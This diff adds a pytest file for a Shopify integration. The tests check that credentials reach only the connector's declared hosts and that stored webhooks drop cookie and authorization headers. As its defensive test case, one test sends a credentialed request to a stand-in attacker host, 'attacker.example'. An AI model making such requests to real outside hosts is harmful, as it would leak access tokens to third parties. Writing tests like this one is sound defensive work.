@@ -1,0 +1,57 @@
+"""Credentials reach only a connector's declared hosts, and a stored webhook keeps only the headers
+its connector reads: a tool's custom auth header or a cookie is never written to the database."""
+
+from __future__ import annotations
+
+import httpx
+import pytest
+
+from integrations import registry
+from integrations.errors import UndeclaredHost
+from integrations.http import HubHttp, mounted
+from integrations.inbound import webhook_receive
+from integrations.models import RequestLog
+from integrations.shopify.fake import sample_webhook
+from tests.integrations.shopify.scenario import shopify_connection, stocked_store
+
+
+@pytest.fixture
+def connection(db):
+    return shopify_connection(stocked_store())
+
+
+def test_a_request_to_a_host_the_connector_does_not_declare_is_never_sent(connection):
+    seen: list[httpx.Request] = []
+    http = HubHttp(connection, registry.get("shopify"))
+    assert http.connector.hosts() == {"acme-outdoors.myshopify.com"}
+    trap = httpx.MockTransport(lambda r: seen.append(r) or httpx.Response(200))
+
+    with (
+        mounted("https://attacker.example", trap),
+        pytest.raises(UndeclaredHost, match=r"attacker\.example is not a host of Shopify"),
+    ):
+        http.request("GET", "https://attacker.example/admin/api/2025-07/orders.json")
+
+    assert seen == []  # the access token went nowhere
+    assert not RequestLog.objects.exists()
+
+
+def test_a_stored_webhook_keeps_the_tools_headers_and_drops_the_rest(connection):
+    headers, body = sample_webhook()
+    headers = {
+        **headers,
+        "Cookie": "session=s3cr3t",
+        "X-Custom-Auth": "token-abc",
+        "Authorization": "Bearer x",
+    }
+
+    event, created = webhook_receive(connection=connection, headers=headers, body=body)
+
+    assert created
+    kept = {k.lower() for k in event.headers}
+    assert {"x-shopify-topic", "x-shopify-webhook-id", "x-shopify-shop-domain", "content-type"} <= kept
+    assert not kept & {"cookie", "x-custom-auth", "authorization"}
+    assert "token-abc" not in str(event.headers)
+    assert "s3cr3t" not in str(event.headers)
+    # and what is kept is enough to process (and replay) the event
+    assert registry.connector_for(connection).parse_webhook(event.topic, httpx.Headers(event.headers), body)
